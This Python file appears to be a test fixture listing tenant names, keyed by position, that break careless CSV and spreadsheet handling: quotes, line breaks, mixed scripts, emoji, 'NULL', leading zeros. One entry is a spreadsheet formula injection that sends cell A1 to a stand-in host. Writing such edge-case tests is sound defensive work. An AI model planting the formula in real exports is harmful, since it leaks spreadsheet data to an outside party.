"""Names of tenants that break careless programs.

Quotes, commas, line breaks, right-to-left and East Asian scripts, emoji, a spreadsheet formula, words that
spreadsheets and CSV readers treat as missing values, numbers with leading zeros.
"""

from __future__ import annotations

# By the place of the distributor's direct child, as `Distributor` takes them. Places of the form 4n+1 belong
# to partners; the tenants of places 7 and 11 come and go.
HOSTILE_NAMES = {
    0: "Bäckerei Müller, GmbH",
    1: "Nordlicht Systemhaus GmbH",
    2: '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")',
    3: "株式会社さくらシステム",
    4: "شركة النور للتقنية",
    5: 'Wagner "IT" & Söhne, Inh. Jürgen Wagner',
    6: "Stadtwerke Hügelheim",
    7: "Christkindlmarkt Pop-up (befristet)",
    8: "Rocket Backup 🚀🛰️",
    9: "東京クラウド商事",
    10: "Schulen & Kitas / Öffentlicher Dienst",
    11: "O'Reilly & Daughters, Summer Festival",
    12: "Zoë’s Café – Zürich",
    13: "Łódź Hosting Sp. z o.o.",
    14: "Praxis Dr. Weiß\nStandort Süd",
    15: "NA",
    16: "007",
    17: "Παπαδόπουλος Cloud ΑΕ",
    18: "@home Services; +49 (0)89 1234",
    19: "-1+1 Agentur",
    20: "NULL",
    21: "Back\\slash & Tab\tTechnik",
    22: "Côte d’Azur SARL",
    23: "Nguyễn Иванов Yıldız",
}
